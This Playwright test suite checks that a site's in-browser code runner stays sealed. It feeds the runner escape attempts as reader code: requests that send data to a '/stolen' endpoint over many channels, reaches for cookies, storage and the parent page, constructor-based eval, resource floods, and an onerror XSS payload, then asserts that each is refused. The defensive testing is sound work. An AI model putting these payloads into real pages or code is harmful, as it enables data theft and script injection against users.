/**
 * Attempts to get out of the sealed runner. Each runs as a reader's edited code in the built site. The attacker
 * is taken at his best: he silences the report that would end his worker and has the whole two seconds.
 */
import { createServer, request as forward, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';

/** Passes the site on, so that the page's own origin is watched too, and counts what only an escape asks for. */
class Watch {
  readonly escapes: string[] = [];
  readonly #server: Server;

  constructor(site: string) {
    this.#server = createServer((asked, answer) => {
      if (asked.url?.startsWith('/stolen')) this.escapes.push(asked.url);
      const passed = forward(new URL(asked.url ?? '/', site), { headers: asked.headers }, (found) => {
        answer.writeHead(found.statusCode ?? 500, found.headers);
        found.pipe(answer);
      });
      asked.pipe(passed);
    });
    this.#server.on('upgrade', (asked, socket) => {
      this.escapes.push(`upgrade ${asked.url}`);
      socket.destroy();
    });
  }

  async open(): Promise<string> {
    await new Promise<void>((done) => this.#server.listen(0, '127.0.0.1', done));
    return `127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

const OUTPUTS = `export const outputs = { x: { label: 'x', unit: '', format: { fixed: 0 }, main: true } };`;

/** A note that carries out `attack`, then reports through the channel that it kept for itself. */
const attacker = (attack: string): string => `
${OUTPUTS}
export const say = () => 'Done.';
const post = self.postMessage.bind(self);
export function compute() {
  self.postMessage = () => {};
  const tell = (text: unknown) => post('>' + text);
  const end = () => post('!' + JSON.stringify({ ran: true, result: { x: 0 }, outputs, say: 'Done.' }));
  const attack = async (): Promise<unknown> => { ${attack} };
  attack().then((got) => tell('GOT ' + got), (error) => tell('refused: ' + error)).then(() => setTimeout(end, 300));
  return { x: 0 };
}`;

const event = (what: string): string =>
  `return new Promise((done, fail) => { const it = ${what}; it.onopen = it.onload = it.onmessage = () => done('open'); it.onerror = () => fail('error event'); });`;

let watch: Watch;
let host: string;

test.beforeEach(async ({ page, baseURL }) => {
  watch = new Watch(baseURL ?? '');
  host = await watch.open();
  await page.goto(`http://${host}/chapters/burden/`);
  await page.locator('refractory-note').scrollIntoViewIfNeeded();
  await page.getByRole('button', { name: 'Edit and run' }).click();
  await expect(page.locator('.prism-code-editor')).toBeVisible();
});
test.afterEach(() => watch.close());

async function run(page: Page, code: string): Promise<string> {
  const told = page.locator('.told');
  await page.locator('.prism-code-editor textarea').fill(code);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(told).not.toBeEmpty({ timeout: 12_000 });
  return (await told.textContent()) ?? '';
}

/** The page still answers, the frame is gone, the code is still there, and nobody asked the server for more. */
async function expectSealed(page: Page): Promise<void> {
  await expect(page.locator('iframe')).toHaveCount(0);
  await page.getByRole('button', { name: 'Reset' }).click();
  await expect(page.locator('.prism-code-editor')).toHaveCount(0);
  await page.getByLabel('New cases counted').first().fill('70');
  await expect(page.locator('.note .main b')).toHaveText('70.0');
  expect(watch.escapes).toEqual([]);
}

test('the watch sees what the page itself asks for', async ({ page }) => {
  await page.evaluate(() => fetch('/stolen'));
  expect(watch.escapes).toEqual(['/stolen']);
});

test('the attacker’s own channel works', async ({ page }) => {
  expect(await run(page, attacker(`return 1 + 1;`))).toContain('GOT 2');
});

/** `$` stands for a foreign origin, `@` for the page's own. */
const REQUESTS: [name: string, attack: string][] = [
  ['fetch of a foreign origin', `return (await fetch('$/stolen')).status;`],
  ['fetch of the site itself', `return (await fetch('@/stolen')).status;`],
  [
    'fetch without CORS, kept alive',
    `return (await fetch('$/stolen', { mode: 'no-cors', keepalive: true })).type;`,
  ],
  [
    'XMLHttpRequest',
    `const it = new XMLHttpRequest(); it.open('GET', '$/stolen', false); it.send(); return it.status;`,
  ],
  ['WebSocket', event(`new WebSocket('$/stolen'.replace('http', 'ws'))`)],
  ['EventSource', event(`new EventSource('$/stolen')`)],
  [
    'WebTransport',
    `const it = new WebTransport('$/stolen'.replace('http', 'https')); await it.ready; return 'open';`,
  ],
  ['dynamic import', `return Object.keys(await import('@/stolen.js'));`],
  ['dynamic import of data', `return Object.keys(await import('data:text/javascript,export const a = 1'));`],
  ['importScripts', `importScripts('@/stolen.js'); return 'loaded';`],
  ['sendBeacon', `return navigator.sendBeacon('$/stolen', 'x');`],
  ['a nested worker', event(`new Worker('@/stolen.js')`)],
  ['a nested worker from a blob', event(`new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))`)],
  ['a shared worker', event(`new SharedWorker('@/stolen.js')`)],
  ['a font', `await new FontFace('f', 'url($/stolen)').load(); return 'loaded';`],
  ['a service worker', `return await navigator.serviceWorker.register('@/stolen.js');`],
  [
    'navigation',
    `self.location = '$/stolen'; if (String(self.location).includes('stolen')) return 'moved'; throw 'stayed';`,
  ],
  ['opening a window', `return self.open('$/stolen');`],
];

for (const [name, attack] of REQUESTS)
  test(`no request by ${name}`, async ({ page }) => {
    const foreign = `http://localhost:${host.split(':')[1]}`;
    const told = await run(
      page,
      attacker(attack.replaceAll('$/', `${foreign}/`).replaceAll('@/', `http://${host}/`)),
    );
    expect(told).toContain('refused: ');
    expect(told).not.toContain('GOT');
    await expectSealed(page);
  });

const REACHES: [name: string, attack: string][] = [
  ['IndexedDB', event(`indexedDB.open('a')`).replace('it.onopen', 'it.onsuccess = it.onopen')],
  ['the cache', `return (await caches.open('a')).constructor.name;`],
  ['local storage', `return localStorage.length;`],
  ['the file system', `return await navigator.storage.getDirectory();`],
  ['cookies', `return document.cookie;`],
  ['the cookie store', `return (await cookieStore.getAll()).length;`],
  ['the page’s document', `return parent.document.title;`],
  ['the top window', `top.location.href = '@/stolen'; return 'moved';`],
  ['eval', `return eval('1 + 1');`],
  ['a function made from text', `return new Function('return 1')();`],
  ['a constructor’s constructor', `return [].at.constructor('return this')();`],
  ['WebAssembly', `return await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`],
];

for (const [name, attack] of REACHES)
  test(`no way to ${name}`, async ({ page }) => {
    const told = await run(page, attacker(attack));
    expect(told).toContain('refused: ');
    expect(told).not.toContain('GOT');
    await expectSealed(page);
  });

const FLOODS: [name: string, body: string, told: string][] = [
  ['an endless loop', `for (;;);`, 'stopped after two seconds'],
  [
    'an endless loop of promises',
    `const go = () => Promise.resolve().then(go); go(); for (;;);`,
    'stopped after two seconds',
  ],
  ['endless recursion', `const go = (): number => 1 + go(); return { x: go() };`, 'call stack'],
  ['a message flood', `for (;;) self.postMessage('>x');`, 'it sent too much'],
  ['a console flood', `for (;;) console.log('x'.repeat(900));`, 'it sent too much'],
  ['one huge message', `self.postMessage('!' + 'x'.repeat(2e7)); for (;;);`, 'it sent too much'],
  [
    'a message that is no text',
    `self.postMessage({ kind: 'report', json: '{}' }); for (;;);`,
    'it sent too much',
  ],
  ['a report that is no result', `self.postMessage('!nonsense'); for (;;);`, 'no result'],
];

for (const [name, body, told] of FLOODS)
  test(`the page outlives ${name}`, async ({ page }) => {
    const code = `${OUTPUTS}\nexport const say = () => 'Done.';\nexport function compute() { ${body} return { x: 0 }; }`;
    expect(await run(page, code)).toContain(told);
    await expect(page.locator('.stale')).toHaveText('Last good result: your code gave none');
    await expectSealed(page);
  });

test('the page outlives a memory flood', async ({ page }) => {
  const code = `${OUTPUTS}\nexport const say = () => 'Done.';\nexport function compute() { const all: number[][] = []; for (;;) all.push(Array(1e6).fill(all.length)); }`;
  expect(await run(page, code)).toMatch(/stopped|memory|could not/i);
  await expectSealed(page);
});

test('markup in a forged report stays text', async ({ page }) => {
  const image = `<img src=/stolen onerror=alert(1)>`;
  const plot = `{ title: '${image}', x: { label: '${image}', unit: '', scale: 'linear' }, y: { label: 'y', unit: '', scale: 'linear' }, series: [{ kind: 'point', name: '${image}', role: 'main', points: [[1, 1]] }] }`;
  const code = `${OUTPUTS.replace("label: 'x'", `label: '${image}'`)}
export const compute = () => { console.log('${image}'); return { x: 1 }; };
export const say = () => '${image}';
export const plot = () => (${plot});`;
  expect(await run(page, code)).toContain(image);
  await expect(page.locator('.note .say')).toHaveText(image);
  await expect(page.locator('.note img')).toHaveCount(0);
  await expectSealed(page);
});

test('code that closes its wrapper is still in the worker', async ({ page }) => {
  const told = await run(page, `};\nfetch('/stolen');\nconst more = () => {`);
  expect(told).toMatch(/^▲? ?Line 1:\d+: /);
  await expectSealed(page);
});
